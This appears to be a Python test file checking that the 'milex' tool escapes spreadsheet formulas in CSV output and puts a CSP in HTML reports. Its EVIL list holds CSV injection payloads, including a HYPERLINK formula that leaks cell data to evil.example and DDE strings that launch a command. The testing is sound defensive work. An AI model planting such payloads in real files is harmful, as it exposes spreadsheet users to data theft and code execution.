"""What milex writes is safe to open: CSV cells that a spreadsheet would run as formulas are
escaped as OWASP recommends (CLI and web alike, numbers untouched), and the claim checker's
HTML report carries a CSP and no control characters."""

from __future__ import annotations

import csv
import io
import re
import shutil
import sys
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

import milex
from milex.cli import main
from milex.data import store
from milex.render import spreadsheet_safe, write_csv
from milex.table import Table
from milex.web.app import Settings, create_app

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
# The ones a user's CSV can carry as flags (an import refuses control characters in a flag).
EVIL_FLAGS = EVIL[:4]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", EVIL)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [-1.5, 0, -3, 2.5e-7, "-1.5", "+2", "-0.25e3", "", "e", None])
def test_numbers_and_plain_text_are_untouched(value: object) -> None:
    assert spreadsheet_safe(value) == value


def test_a_carriage_return_in_a_cell_does_not_end_the_row() -> None:
    out = io.StringIO()
    write_csv(Table(["a", "b"], [("x\ry", "\r=1+2")]), out)
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["a", "b"],
        ["x\ny", "'\n=1+2"],
    ]


@given(st.text())
def test_no_csv_cell_starts_like_a_formula(text: str) -> None:
    out = io.StringIO()
    write_csv(Table([text or "c"], [(text,)]), out)
    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    for cell in (*header, *row):
        if cell.startswith(FORMULA_START):
            assert re.fullmatch(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?", cell), cell


@pytest.fixture
def evil_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, milex_home: Path) -> Path:
    """A store holding a user's CSV whose flags and title are formulas."""
    home = tmp_path / "home"
    home.mkdir()
    shutil.copyfile(milex_home / store.STORE_NAME, home / store.STORE_NAME)
    monkeypatch.setenv("MILEX_HOME", str(home))
    file = tmp_path / "evil.csv"
    with file.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["country", "year", "indicator", "value", "estimate", "flag"])
        for code, flag in zip(["POL", "FRA", "DEU", "ITA"], EVIL_FLAGS, strict=True):
            writer.writerow([code, 2026, "share_gdp", 2.5, 1, flag])
    milex.import_file("csv", file, release="user-evil-2026", title="=1+2", published="2026-05-01")
    return home


def run(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *args: str
) -> tuple[int, str]:
    monkeypatch.setattr(sys, "argv", ["milex", *args])
    try:
        main()
        code = 0
    except SystemExit as exited:
        code = int(exited.code or 0)
    return code, capsys.readouterr().out


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_cli_csv_escapes_formulas(
    evil_home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out = run(monkeypatch, capsys, "series", "--release", "user-evil-2026", "-f", "csv")
    assert code == 0
    rows = cells(out)
    flag = rows[0].index("flag")
    assert sorted(row[flag] for row in rows[1:]) == sorted("'" + text for text in EVIL_FLAGS)
    value = rows[0].index("value")
    assert {row[value] for row in rows[1:]} == {"2.5"}
    code, out = run(monkeypatch, capsys, "releases", "-f", "csv")
    assert code == 0
    releases = cells(out)
    titles = [row[releases[0].index("title")] for row in releases if row[0] == "user-evil-2026"]
    assert titles == ["'=1+2"]
    # JSON is data, not a spreadsheet: it stays as stored
    code, out = run(monkeypatch, capsys, "series", "--release", "user-evil-2026", "-f", "json")
    assert '"flag": "=HYPERLINK' in out


def test_web_csv_downloads_escape_formulas(evil_home: Path) -> None:
    with TestClient(create_app(Settings())) as client:
        response = client.get("/data/history.csv?country=POL")
    assert response.status_code == 200
    rows = cells(response.text)
    flags = [row[rows[0].index("flag")] for row in rows[1:] if "user-evil-2026" in row]
    assert flags == ["'" + EVIL[0]]
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_html_report_has_a_csp_and_no_control_characters(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    text = tmp_path / "article.txt"
    text.write_bytes(b"Poland spent \x1b[31m4.1% of GDP\x1b[0m in 2024\x00, NATO said.\x07\n")
    report = tmp_path / "report.html"
    code, out = run(monkeypatch, capsys, "check", str(text), "--html", str(report), "-f", "csv")
    assert code == 0
    html = report.read_text(encoding="utf-8")
    assert '<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;' in html
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", html)
    assert "\ufffd[31m4.1% of GDP\ufffd[0m" in html
    assert "\x1b" not in out
    assert "4.1" in cells(out)[1]
